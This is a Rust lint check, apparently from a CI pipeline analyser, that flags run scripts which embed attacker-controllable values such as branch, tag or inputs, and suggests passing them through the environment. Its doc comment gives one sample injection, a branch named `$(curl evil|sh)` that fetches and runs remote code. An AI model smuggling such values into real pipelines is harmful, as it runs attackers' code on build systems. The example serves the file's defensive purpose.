//! No script contains a text that somebody else chooses: a branch called `$(curl evil|sh)` would be run.

use crate::{
    Code, Diagnostic,
    diagnostic::Diagnostics,
    syntax::{Action, Pipeline},
};

/// Variables that whoever opens a pull request or starts a run can set.
const CHOSEN: [&str; 4] = ["branch", "base", "tag", "inputs"];

pub(super) fn check(pipeline: &Pipeline, diagnostics: &mut Diagnostics) {
    let steps = pipeline
        .jobs
        .iter()
        .flat_map(|job| job.steps.iter().chain(&job.after));
    for step in steps {
        let Action::Run(script) = &step.action else {
            continue;
        };
        for text in script {
            let chosen = text
                .template
                .references()
                .find(|reference| CHOSEN.contains(&reference.path[0].as_str()));
            if let Some(reference) = chosen {
                let path = reference.path.join(".");
                let message = format!(
                    "the script contains the value of `{path}`, which is run as part of it"
                );
                let span = text.scalar().locate_in(diagnostics, reference.range);
                diagnostics.push(
                    Diagnostic::new(Code::TemplateInjection, span, message).help(format!(
                        "hand it over in the environment: `env: {{ VALUE: \"${{{{ {path} }}}}\" }}`, and write \"$VALUE\""
                    )),
                );
            }
        }
    }
}
